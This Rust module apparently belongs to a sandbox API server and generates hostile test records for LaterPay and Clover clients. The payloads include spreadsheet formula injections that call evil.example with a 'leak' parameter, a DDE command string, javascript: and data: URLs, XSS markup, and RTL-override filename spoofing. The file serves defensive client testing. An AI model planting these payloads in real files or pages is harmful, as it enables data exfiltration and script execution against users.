//! `--data hostile`: unusual but well-formed records mixed into both APIs' answers, for
//! testing that clients survive them (the demo data stays as it is around them).
//!
//! * LaterPay: every UTC day gets the records of [`laterpay_day`] at fixed times
//!   (formula titles, `javascript:` and `data:` item URLs, markup in titles, huge, zero
//!   and negative prices (a `Refund` sales model), a 10 kB title, right-to-left, emoji and control characters,
//!   missing fields, wrong types), every third day also entries no client can read, and
//!   every tenth day one record dated 9999-12-31.
//! * Clover: in every export file, every fifth object gets formula strings in its text
//!   fields and every tenth also text where numbers belong ([`clover_file`]).
//!
//! Switchable at run time through `POST /__sandbox/data {"mode":"hostile"|"demo"}`.

use serde_json::{json, Value};

use crate::civil::{write_datetime, DAY_MS};

/// Which data the APIs answer with.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum DataMode {
    /// The generated demo data only.
    #[default]
    Demo,
    /// Demo data with hostile records mixed in.
    Hostile,
}

impl DataMode {
    pub fn parse(s: &str) -> Option<Self> {
        match s.trim().to_ascii_lowercase().as_str() {
            "demo" => Some(DataMode::Demo),
            "hostile" => Some(DataMode::Hostile),
            _ => None,
        }
    }

    pub fn as_str(self) -> &'static str {
        match self {
            DataMode::Demo => "demo",
            DataMode::Hostile => "hostile",
        }
    }
}

/// A price beyond any honest figure, and the smallest one beyond the ±10^15 bound.
pub const HUGE_PRICE: i64 = 9_000_000_000_000_000_000;
pub const JUST_TOO_BIG: i64 = 1_000_000_000_000_001;

/// A script payload: sets `window.__pwned` if it ever runs.
const SCRIPT: &str = "window.__pwned=1";

fn date_time(secs: i64) -> String {
    let mut s = String::new();
    write_datetime(&mut s, secs);
    s.push_str("+00:00");
    s
}

/// The hostile LaterPay records of one UTC day, each with its purchase instant (epoch
/// ms, for ordering among the day's records; `None` for entries that have none).
pub fn laterpay_day(day: i64) -> Vec<(i64, Value)> {
    let base = day * DAY_MS / 1000 + 3 * 3600;
    let at = |k: i64| base + k * 60;
    let when = |k: i64| date_time(at(k));
    let rec = |k: i64, price: Value, title: Value, url: &str| {
        json!({
            "payment_model": "Pay Now",
            "sales_model": "Single Purchase",
            "price": price,
            "title": title,
            "expiry_date": "",
            "item_url": url,
            "purchase_date": when(k),
            "shared_user_id": format!("hostile-{}", k % 3),
            "payment_date": format!("{}", when(k).replace("+00:00", ".000000+00:00")),
            "article_id": format!("H{k}"),
        })
    };
    let long_title: String = "Ж".repeat(1024) + &"W".repeat(8 * 1024);
    let mut out = vec![
        rec(
            0,
            json!(199),
            json!("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")"),
            "javascript:alert(document.domain)",
        ),
        rec(
            1,
            json!(0),
            json!("+cmd|' /C calc'!A0"),
            &format!("JaVaScRiPt:{SCRIPT}"),
        ),
        rec(
            2,
            json!(-499),
            json!("-1+1"),
            &format!("data:text/html,<script>{SCRIPT}</script>"),
        ),
        rec(
            3,
            json!(299),
            json!("@SUM(1+1)*cmd|' /C calc'!A0"),
            " javascript:alert(1)",
        ),
        rec(
            4,
            json!(HUGE_PRICE),
            json!(format!("<img src=x onerror=\"{SCRIPT}\">")),
            "http://example.com/huge",
        ),
        rec(
            5,
            json!(-HUGE_PRICE),
            json!(format!("<script>{SCRIPT}</script>")),
            "https://example.com/negative-huge",
        ),
        rec(
            6,
            json!(JUST_TOO_BIG),
            json!("\t=1+2"),
            "https://example.com/just-too-big",
        ),
        rec(
            7,
            json!(149),
            json!(long_title),
            &format!("https://example.com/{}", "a".repeat(2000)),
        ),
        rec(
            8,
            json!(99),
            json!("\u{202E}gnp.exe\u{202C} مرحبا שלום 😀👩‍👩‍👧\u{0007}\u{0000}\u{001b}[31m\r\n=1"),
            "https://example.com/rtl",
        ),
    ];
    // Unbroken model names hundreds of characters long, beside the 10 kB title.
    if let Some(Value::Object(m)) = out.get_mut(7) {
        m.insert(
            "sales_model".into(),
            json!(format!("Pass{}", "x".repeat(300))),
        );
        m.insert(
            "payment_model".into(),
            json!(format!("Pay{}", "y".repeat(300))),
        );
    }
    // A refund of its own kind: its series is negative, drawn below the zero line.
    if let Some(Value::Object(m)) = out.get_mut(2) {
        m.insert("sales_model".into(), json!("Refund"));
    }
    // Right-to-left and emoji in the models and the buyer, a one-off model name.
    if let Some(Value::Object(m)) = out.last_mut() {
        m.insert("sales_model".into(), json!("\u{202E}ssaP emiT"));
        m.insert("payment_model".into(), json!("Pay 😀 Later"));
        m.insert("shared_user_id".into(), json!("\u{05D0}\u{05D1}-user-😀"));
    }
    // Missing fields: only the two a record cannot do without.
    out.push(json!({"price": 250, "purchase_date": when(9)}));
    // Wrong types everywhere but a readable price and date.
    out.push(json!({
        "payment_model": 7, "sales_model": {"name": "Time Pass"}, "price": "350",
        "title": 12345, "expiry_date": true, "item_url": ["http://example.com"],
        "purchase_date": when(10), "shared_user_id": null, "payment_date": 1767225600,
        "article_id": 4.5,
    }));
    let mut out: Vec<(i64, Value)> = out
        .into_iter()
        .enumerate()
        .map(|(k, v)| (at(k as i64) * 1000, v))
        .collect();
    if day % 3 == 0 {
        // Entries no client can read (left out and counted as unreadable).
        let k = 11;
        for v in [
            json!({"price": "two euros", "purchase_date": when(k), "title": "=1"}),
            json!({"price": 100, "purchase_date": "yesterday"}),
            json!("=not an object"),
            json!(42),
        ] {
            out.push((at(k) * 1000, v));
        }
    }
    if day % 10 == 0 {
        out.push((
            at(12) * 1000,
            json!({
                "payment_model": "Pay Now", "sales_model": "Single Purchase", "price": 100,
                "title": "Far future", "item_url": "https://example.com/far",
                "purchase_date": "9999-12-31T23:59:59+00:00", "article_id": "FAR",
            }),
        ));
    }
    out
}

/// Formula strings (and, for every tenth object, text in number fields) in a Clover
/// export file's objects. Ids and `createdTime` stay intact: the range rules and dedup
/// still hold.
pub fn clover_file(body: Vec<u8>) -> Vec<u8> {
    let Ok(mut v) = serde_json::from_slice::<Value>(&body) else {
        return body;
    };
    if let Some(elements) = v.get_mut("elements").and_then(Value::as_array_mut) {
        for (i, el) in elements.iter_mut().enumerate() {
            let Value::Object(o) = el else { continue };
            if i % 5 != 0 {
                continue;
            }
            for (key, text) in [
                ("title", "=HYPERLINK(\"http://evil.example\",\"Table 4\")"),
                ("note", "+cmd|' /C calc'!A0"),
                ("result", "@SUM(1+1)"),
                ("paymentState", "-2+3"),
            ] {
                if o.contains_key(key) {
                    o.insert(key.into(), json!(text));
                }
            }
            for outer in ["employee", "device", "tender"] {
                if let Some(Value::Object(inner)) = o.get_mut(outer) {
                    let field = if outer == "tender" { "label" } else { "id" };
                    inner.insert(
                        field.into(),
                        json!("=IMPORTXML(\"http://evil.example\",\"//a\")"),
                    );
                }
            }
            if i % 10 == 0 {
                for key in ["total", "amount", "tipAmount"] {
                    if o.contains_key(key) {
                        o.insert(key.into(), json!("=1+1"));
                    }
                }
                o.insert("modifiedTime".into(), json!("\t-1"));
            }
        }
    }
    serde_json::to_vec(&v).unwrap_or(body)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_day_has_every_kind_of_record_in_time_order() {
        let day = 20_400; // divisible by 3 and 10
        let recs = laterpay_day(day);
        assert!(recs.windows(2).all(|w| w[0].0 <= w[1].0));
        assert!(recs.iter().all(|(ms, _)| ms / DAY_MS == day));
        let prices: Vec<&Value> = recs.iter().filter_map(|(_, v)| v.get("price")).collect();
        assert!(prices.contains(&&json!(HUGE_PRICE)) && prices.contains(&&json!(0)));
        let text = serde_json::to_string(&recs.iter().map(|r| &r.1).collect::<Vec<_>>()).unwrap();
        for needle in [
            "=HYPERLINK",
            "javascript:",
            "9999-12-31",
            "two euros",
            "\\u0000",
            "\u{202E}",
        ] {
            assert!(text.contains(needle), "{needle}");
        }
        assert!(text.len() > 10_000);
        assert_eq!(laterpay_day(day + 1).len(), 11);
    }

    #[test]
    fn clover_files_keep_ids_and_times() {
        let body = br#"{"elements":[{"id":"A","title":"x","note":"","total":5,"createdTime":7,"employee":{"id":"E"}},{"id":"B","title":"y"}]}"#;
        let v: Value = serde_json::from_slice(&clover_file(body.to_vec())).unwrap();
        let a = &v["elements"][0];
        assert_eq!(a["id"], "A");
        assert_eq!(a["createdTime"], 7);
        assert_eq!(a["total"], "=1+1");
        assert!(a["title"].as_str().unwrap().starts_with('='));
        assert!(a["employee"]["id"].as_str().unwrap().starts_with('='));
        assert_eq!(v["elements"][1]["title"], "y");
    }
}
